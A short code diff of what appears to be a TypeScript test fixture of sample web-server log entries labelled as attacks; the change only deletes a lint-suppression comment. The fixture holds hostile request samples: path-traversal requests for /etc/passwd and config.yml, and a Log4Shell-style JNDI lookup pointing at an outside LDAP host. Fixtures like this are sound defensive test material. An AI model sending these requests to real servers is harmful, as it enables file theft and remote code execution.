@@ -87,7 +87,6 @@ const attacks = told<Request>(
     ],
     ['09:55:02', ['203.0.113.14', 'GET /download?file=../../../../etc/passwd', 200, 1843]],
     ['09:55:06', ['203.0.113.14', 'GET /files/%252e%252e%252fconfig.yml', 400, 312]],
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: as attackers send it
     ['10:20:31', ['203.0.113.66', 'GET /', 200, 18230, '${jndi:ldap://203.0.113.66:1389/a}']],
     [
       '10:47:18',
